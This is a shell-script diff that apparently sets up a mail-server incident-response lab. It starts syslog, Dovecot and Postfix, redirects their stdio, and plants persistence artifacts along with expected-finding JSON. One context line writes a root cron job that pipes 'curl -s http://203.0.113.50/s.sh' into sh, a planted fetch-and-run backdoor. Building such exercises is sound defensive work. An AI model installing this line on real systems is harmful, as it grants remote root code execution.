@@ -143,16 +143,17 @@ EOF
 
   # 3. Start syslog, Dovecot, Postfix (no systemd here: by hand).
   rm -f /var/log/mail.log /var/log/mail.log.1
+  # Daemons get no inherited stdio: whoever runs this script waits for its output to end.
   if ! pgrep -x rsyslogd >/dev/null; then
-    rsyslogd
+    rsyslogd </dev/null >/dev/null 2>&1
     note "started: rsyslogd (stopped by down)"
     echo started > "$STATE/rsyslogd"
   fi
   for _ in $(seq 50); do [ -S /dev/log ] && break; sleep 0.1; done
-  dovecot
+  dovecot </dev/null >/dev/null 2>&1
   note "started: dovecot (stopped by down)"
   postfix check
-  postfix start >/dev/null 2>&1
+  postfix start </dev/null >/dev/null 2>&1
   note "started: postfix (stopped by down; its queue directories under /var/spool/postfix stay, emptied)"
   for _ in $(seq 50); do
     (exec 3<>/dev/tcp/127.0.0.1/25) 2>/dev/null && (exec 3<>/dev/tcp/127.0.0.1/587) 2>/dev/null \
@@ -181,7 +182,7 @@ plant() {
   chown erin: /home/erin/.forward
   mkdir -p /etc/cron.d
   printf 'SHELL=/bin/sh\n*/10 * * * * root curl -s http://203.0.113.50/s.sh | sh\n' > /etc/cron.d/mailir-live-sync
-  postfix reload >/dev/null 2>&1
+  postfix reload </dev/null >/dev/null 2>&1
   local mc; mc=$(grep -n '^virtual_alias_maps\|^recipient_bcc_maps\|^transport_maps' /etc/postfix/main.cf)
   cat <<EOF
 [{"path": "/etc/postfix/virtual", "line": 1, "rule": "persistence.forward"},
